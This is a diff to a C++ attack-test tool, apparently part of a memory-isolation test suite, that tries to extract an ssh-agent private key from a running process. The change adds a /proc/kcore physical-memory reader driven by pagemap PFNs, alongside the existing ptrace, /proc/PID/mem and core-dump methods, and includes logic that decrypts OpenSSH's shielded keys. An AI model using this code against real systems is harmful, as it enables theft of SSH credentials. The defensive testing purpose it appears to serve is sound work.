@@ -15,20 +15,27 @@
  *                     every writable mapping and the key mappings
  *   core_dump         gcore(1) (gdb, ptrace) of the process, then the core
  *                     file's PT_LOAD segments
+ *   kcore             /proc/kcore: every present page of the writable and key
+ *                     mappings, by its PFN (/proc/PID/pagemap) at its
+ *                     direct-map address (tests/attack/env.cpp's kcore); in
+ *                     the default list only when /proc/kcore exists
  * Each method looks for the seed as it is, and for a key under OpenSSH's key
  * shielding (ssh-agent since 8.1 keeps keys encrypted with AES-256-CTR under
  * SHA-512 of a 16 KiB random prekey, sshkey_shield_private()): it looks for
  * the tail of struct sshkey (shielded_private, shielded_len, shield_prekey,
  * shield_prekey_len == 16384), reads the prekey and the blob through the same
  * method, decrypts and looks for the seed in the plaintext. A mapping of
- * exclusive memory ("/secretmem", "/memfd_exclusive:...") whose read fails is
- * reported with its errno.
+ * exclusive memory ("/secretmem", "/memfd_exclusive:...") whose read fails, or
+ * comes back all zero (kcore's answer for a page outside the direct map), is
+ * counted as refused.
  *
  * Prints one line per method: "METHOD: found the key (...)" or
  * "METHOD: no key found (...)". Exit status: 0 when every method ended as
  * --expect says (or no --expect), 1 otherwise, 2 for a bad command line or a
  * method that could not run.
  */
+#include "env.hpp"
+
 #include <openssl/evp.h>
 #include <openssl/sha.h>
 #include <sodium.h>
@@ -312,6 +319,47 @@ private:
 	std::vector<Elf64_Phdr> segs_;
 };
 
+/* Physical memory through /proc/kcore, page by page via pagemap PFNs. */
+class kcore_source : public source
+{
+public:
+	explicit kcore_source(pid_t pid) : pid_(pid)
+	{
+		regions = live_regions(pid);
+		kc_ = xattack::kcore::open(why_);
+	}
+	bool usable(std::string &why) const
+	{
+		why = why_;
+		return kc_.has_value();
+	}
+	bool wants(const region &r) const override { return r.writable || r.exclusive(); }
+	int read(std::uintptr_t addr, std::size_t n, buf &out) override
+	{
+		const std::uintptr_t page = xattack::page_size();
+		out.clear();
+		for (std::uintptr_t p = addr & ~(page - 1); p < addr + n; p += page) {
+			std::string why;
+			buf bytes(page, 0); /* a page not present reads as zeros */
+			if (auto pfn = xattack::pfn_of(pid_, p, why)) {
+				auto r = kc_->read_phys(*pfn * page);
+				if (!r.ok)
+					return r.err ? r.err : EIO;
+				bytes.assign(r.bytes.begin(), r.bytes.end());
+			}
+			std::uintptr_t lo = std::max(p, addr), hi = std::min(p + page, addr + n);
+			out.insert(out.end(), bytes.begin() + static_cast<long>(lo - p),
+				   bytes.begin() + static_cast<long>(hi - p));
+		}
+		return 0;
+	}
+
+private:
+	pid_t pid_;
+	std::string why_;
+	std::optional<xattack::kcore> kc_;
+};
+
 /* ------------------------------------------------------------------ */
 /* The search                                                          */
 
@@ -359,7 +407,8 @@ verdict search(source &s, const buf &seed)
 		int err = s.read(r.start, r.end - r.start, data);
 		if (r.exclusive()) {
 			v.exclusive_maps++;
-			if (err || data.empty()) {
+			if (err || std::all_of(data.begin(), data.end(),
+					       [](std::uint8_t b) { return b == 0; })) {
 				v.exclusive_refused++;
 				v.refused_errno = err ? err : EIO;
 			}
@@ -425,7 +474,7 @@ int main(int argc, char **argv)
 			else
 				expect = v;
 		} else if (a == "process_vm_readv" || a == "proc_mem" || a == "ptrace" ||
-			   a == "core_dump") {
+			   a == "core_dump" || a == "kcore") {
 			methods.push_back(a);
 		} else {
 			usage_die("usage: xmem-agent-attack --pid PID --key FILE "
@@ -434,8 +483,13 @@ int main(int argc, char **argv)
 	}
 	if (pid <= 0 || key.empty() || !(expect.empty() || expect == "found" || expect == "refused"))
 		usage_die("--pid PID and --key FILE are needed; --expect is found or refused");
-	if (methods.empty())
+	if (methods.empty()) {
 		methods = {"process_vm_readv", "proc_mem", "ptrace", "core_dump"};
+		if (::access("/proc/kcore", F_OK) == 0)
+			methods.push_back("kcore");
+		else
+			std::printf("kcore: not tried: no /proc/kcore in this kernel\n");
+	}
 	if (sodium_init() < 0)
 		usage_die("sodium_init failed");
 	buf seed = read_seed(key);
@@ -457,6 +511,15 @@ int main(int argc, char **argv)
 				continue;
 			}
 			s = std::move(p);
+		} else if (m == "kcore") {
+			auto k = std::make_unique<kcore_source>(pid);
+			std::string why;
+			if (!k->usable(why)) {
+				std::printf("%s: could not run: %s\n", m.c_str(), why.c_str());
+				status = 2;
+				continue;
+			}
+			s = std::move(k);
 		} else {
 			char dir[] = "/tmp/xmem-agent-attack.XXXXXX";
 			if (!::mkdtemp(dir))
